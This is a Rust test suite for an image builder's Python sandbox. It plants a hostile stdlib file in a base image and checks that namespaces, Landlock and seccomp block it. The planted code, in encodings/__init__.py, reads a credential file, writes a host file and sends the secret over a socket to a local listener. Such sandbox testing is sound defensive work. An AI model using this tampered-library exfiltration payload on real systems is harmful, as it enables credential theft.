//! The base's Python runs in a sandbox (issue 21): a base whose standard
//! library tries to read a host file, write one and open a socket gets none
//! of them, with namespaces, with the Landlock fallback where namespaces are
//! forbidden, and as an unprivileged user in a container; without either
//! mechanism the build stops in one line; `sandbox = false` is the only way
//! to run the base unconfined.

mod support;

use std::io::Read;
use std::net::TcpListener;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

const SECRET: &str = "FAKE-CREDENTIAL-5e1f09";

/// One file of the base's layers (the last layer that has it).
fn base_file(layout: &Path, path: &str) -> Vec<u8> {
    let json = |p: PathBuf| -> serde_json::Value {
        serde_json::from_slice(&std::fs::read(p).unwrap()).unwrap()
    };
    let blob = |d: &serde_json::Value| {
        layout
            .join("blobs/sha256")
            .join(d.as_str().unwrap().trim_start_matches("sha256:"))
    };
    let index = json(layout.join("index.json"));
    let manifest = json(blob(&index["manifests"][0]["digest"]));
    let mut found = None;
    for layer in manifest["layers"].as_array().unwrap() {
        let gz = flate2::read::GzDecoder::new(std::fs::File::open(blob(&layer["digest"])).unwrap());
        let mut tar = tar::Archive::new(gz);
        for entry in tar.entries().unwrap() {
            let mut entry = entry.unwrap();
            let name = entry.path().unwrap().to_string_lossy().into_owned();
            if name.trim_start_matches("./") == path {
                let mut bytes = Vec::new();
                entry.read_to_end(&mut bytes).unwrap();
                found = Some(bytes);
            }
        }
    }
    found.unwrap_or_else(|| panic!("{path} is not in {}", layout.display()))
}

/// The test's bookworm base with `encodings/__init__.py` (imported by every
/// interpreter start) changed to read `secret`, write `marker` with what it
/// read, and connect to `port` on the host's loopback. It reports to stderr
/// only, so the compile driver's answers stay intact.
fn hostile_base(secret: &Path, marker: &Path, port: u16) -> PathBuf {
    let base = support::base::base_image("amd64");
    let path = "usr/lib/python3.11/encodings/__init__.py";
    let mut source = base_file(&base, path);
    source.extend_from_slice(
        format!(
            r#"
def _imgbuild_attack():
    import os as _os
    said = []
    data = ""
    # Builtin open() is not there yet when encodings is first imported.
    try:
        fd = _os.open({secret:?}, _os.O_RDONLY)
        data = _os.read(fd, 4096).decode()
        _os.close(fd)
        said.append("read the host file")
    except Exception as e:
        said.append("read refused: %s" % type(e).__name__)
    try:
        fd = _os.open({marker:?}, _os.O_WRONLY | _os.O_CREAT, 0o644)
        _os.write(fd, ("written from the base: " + data).encode())
        _os.close(fd)
        said.append("wrote a host file")
    except Exception as e:
        said.append("write refused: %s" % type(e).__name__)
    try:
        import _socket
        s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
        s.settimeout(2)
        s.connect(("127.0.0.1", {port}))
        s.send(data.encode() or b"hello")
        said.append("connected")
    except Exception as e:
        said.append("connect refused: %s" % type(e).__name__)
    _os.write(2, ("attack: " + "; ".join(said) + "\n").encode())
_imgbuild_attack()
del _imgbuild_attack
"#,
            secret = secret.display().to_string(),
            marker = marker.display().to_string(),
        )
        .as_bytes(),
    );
    support::base::with_files(&base, &[(path, &source)])
}

/// A one-module app on `base`, with `extra` settings.
fn project(dir: &Path, base: &Path, extra: &str) {
    std::fs::create_dir_all(dir.join("src/pkg")).unwrap();
    std::fs::write(dir.join("src/pkg/__init__.py"), "").unwrap();
    std::fs::write(dir.join("src/pkg/main.py"), "app = 1\n").unwrap();
    std::fs::write(
        dir.join("imgbuild.toml"),
        format!(
            "base = \"oci:{}:latest\"\nsource = \"src\"\napp = \"pkg.main:app\"\nbytecode-stdlib = false\n{extra}",
            base.display()
        ),
    )
    .unwrap();
}

/// `imgbuild -v build` in `dir`, with `deny` (system call, errno) refused by
/// a seccomp filter on the imgbuild process itself, as a locked-down runner
/// would refuse them.
fn build(dir: &Path, deny: &[(i64, u32)]) -> Output {
    let mut cmd = support::imgbuild_command(
        dir,
        &["build", "-v", "--output", "oci:out", "--cache-dir", "cache"],
    );
    if !deny.is_empty() {
        let rules: std::collections::BTreeMap<i64, Vec<seccompiler::SeccompRule>> =
            deny.iter().map(|&(nr, _)| (nr, Vec::new())).collect();
        // One errno for all: seccompiler gives one match action per filter.
        let errno = deny[0].1;
        let filter = seccompiler::SeccompFilter::new(
            rules,
            seccompiler::SeccompAction::Allow,
            seccompiler::SeccompAction::Errno(errno),
            std::env::consts::ARCH.try_into().unwrap(),
        )
        .unwrap();
        let program: seccompiler::BpfProgram = filter.try_into().unwrap();
        // SAFETY: prctl and seccomp between fork and exec, on a program built before.
        unsafe {
            cmd.pre_exec(move || {
                seccompiler::apply_filter(&program).map_err(std::io::Error::other)
            });
        }
    }
    cmd.output().expect("run imgbuild")
}

/// Every layer of the built image, uncompressed, as one byte string.
fn image_bytes(layout: &Path) -> Vec<u8> {
    let mut all = Vec::new();
    for e in std::fs::read_dir(layout.join("blobs/sha256")).unwrap() {
        let bytes = std::fs::read(e.unwrap().path()).unwrap();
        let mut inflated = Vec::new();
        if flate2::read::GzDecoder::new(&bytes[..])
            .read_to_end(&mut inflated)
            .is_ok()
        {
            all.extend(inflated);
        }
        all.extend(bytes);
    }
    all
}

/// A copy of an OCI layout, readable by all.
fn copy_layout(from: &Path, to: &Path) {
    let status = Command::new("cp")
        .arg("-r")
        .arg(from)
        .arg(to)
        .status()
        .unwrap();
    assert!(status.success());
}

/// The attack's setting: a host secret, a marker path, a listener.
struct Attack {
    _tmp: tempfile::TempDir,
    dir: PathBuf,
    secret: PathBuf,
    marker: PathBuf,
    listener: TcpListener,
    base: PathBuf,
}

impl Attack {
    fn new() -> Attack {
        let tmp = support::target_tempdir("sandbox-");
        let dir = tmp.path().to_path_buf();
        let secret = dir.join("host-credential.txt");
        std::fs::write(&secret, SECRET).unwrap();
        let marker = dir.join("written-by-the-base.txt");
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        let port = listener.local_addr().unwrap().port();
        let base = hostile_base(&secret, &marker, port);
        Attack {
            _tmp: tmp,
            dir,
            secret,
            marker,
            listener,
            base,
        }
    }

    /// Whether the base reached the listener.
    fn connected(&self) -> bool {
        self.listener.accept().is_ok()
    }

    /// Asserts the build succeeded with `mechanism` and the base got nothing.
    fn assert_contained(&self, project: &Path, out: &Output, mechanism: &str) {
        let stderr = String::from_utf8_lossy(&out.stderr);
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert!(out.status.success(), "{stderr}");
        assert!(
            stderr.contains(&format!("sandbox: {mechanism}")),
            "{stderr}"
        );
        assert!(!self.marker.exists(), "the base wrote a host file");
        assert!(!self.connected(), "the base reached the host's network");
        assert!(!stderr.contains(SECRET) && !stdout.contains(SECRET));
        let image = image_bytes(&project.join("out"));
        assert!(
            !image.windows(SECRET.len()).any(|w| w == SECRET.as_bytes()),
            "the host file reached the image"
        );
        assert!(self.secret.exists());
    }
}

#[test]
fn a_hostile_base_reaches_no_host_file_and_no_network_in_the_namespace_sandbox() {
    let attack = Attack::new();
    let dir = attack.dir.join("ns");
    project(&dir, &attack.base, "");
    let out = build(&dir, &[]);
    attack.assert_contained(&dir, &out, "user, mount, PID, network");
}

#[test]
fn where_namespaces_are_forbidden_landlock_and_seccomp_contain_the_base() {
    let attack = Attack::new();
    let dir = attack.dir.join("landlock");
    project(&dir, &attack.base, "");
    let out = build(&dir, &[(libc::SYS_unshare, libc::EPERM as u32)]);
    attack.assert_contained(&dir, &out, "Landlock (ABI");
}

#[test]
fn without_any_sandbox_the_build_stops_in_one_line_and_sandbox_false_runs_the_base_unconfined() {
    let attack = Attack::new();
    let dir = attack.dir.join("none");
    project(&dir, &attack.base, "");
    let deny = [
        (libc::SYS_unshare, libc::ENOSYS as u32),
        (libc::SYS_landlock_create_ruleset, libc::ENOSYS as u32),
    ];
    let out = build(&dir, &deny);
    assert!(!out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    let last = stderr.lines().last().unwrap_or("");
    assert!(
        last.starts_with("error: cannot run the base's Python in a sandbox here")
            && last.contains("Landlock is not available")
            && last.contains("bytecode = false")
            && last.contains("sandbox = false"),
        "{stderr}"
    );
    assert!(!dir.join("out").exists(), "an output was written");
    assert!(!attack.marker.exists());

    // The opt-out is explicit, said under -v, and does what it says: this
    // is what every build did before the sandbox.
    let dir = attack.dir.join("unconfined");
    project(&dir, &attack.base, "sandbox = false\n");
    let out = build(&dir, &[]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(
        stderr.contains("sandbox: none (sandbox = false)"),
        "{stderr}"
    );
    let written = std::fs::read_to_string(&attack.marker).unwrap();
    assert!(written.contains(SECRET), "{written}");
    assert!(attack.connected());
}

#[test]
fn the_sandbox_works_for_an_unprivileged_user_in_a_container_and_gives_the_same_pycs() {
    let tmp = support::target_tempdir("sandbox-podman-");
    // A copy beside the project, named relatively, so that the host and the
    // container name the same base (uid 1000 cannot read the test cache).
    let base = tmp.path().join("base");
    copy_layout(&support::base::base_image("amd64"), &base);
    let dir = tmp.path().join("project");
    project(&dir, Path::new("../base"), "");
    let host = build(&dir, &[]);
    let host_digest = support::last_line(&host, "imgbuild on the host");
    let _ = Command::new("chmod")
        .arg("-R")
        .arg("a+rwX")
        .arg(tmp.path())
        .status();
    std::fs::remove_dir_all(dir.join("out")).unwrap();
    std::fs::remove_dir_all(dir.join("cache")).unwrap();

    let image = support::podman::import(&format!("oci:{}:latest", base.display()), None);
    let vol = |from: &Path, to: &str, mode: &str| format!("{}:{to}:{mode}", from.display());
    let run = support::podman::podman()
        .args(["run", "--rm"])
        .args(support::podman::RUN_ARGS)
        .args(["--user", "1000:1000", "--cap-drop=ALL", "--read-only"])
        .args(["--security-opt", "no-new-privileges", "--network", "none"])
        .args(["-e", "HOME=/nonexistent", "-w", "/project"])
        .arg("-v")
        .arg(vol(
            Path::new(env!("CARGO_BIN_EXE_imgbuild")),
            "/usr/local/bin/imgbuild",
            "ro",
        ))
        .arg("-v")
        .arg(vol(&base, "/base", "ro"))
        .arg("-v")
        .arg(vol(&dir, "/project", "rw"))
        .arg(&image)
        .args([
            "imgbuild",
            "build",
            "-v",
            "--output",
            "oci:out",
            "--cache-dir",
            "cache",
        ])
        .output()
        .expect("cannot run podman; run scripts/setup.sh");
    let stderr = String::from_utf8_lossy(&run.stderr);
    let said = stderr.lines().find(|l| l.contains("runs in a sandbox: "));
    eprintln!("in the container: {said:?}");
    assert!(said.is_some(), "{stderr}");
    let digest = support::last_line(&run, "imgbuild as uid 1000 in a container");
    assert_eq!(digest, host_digest, "{stderr}");
}
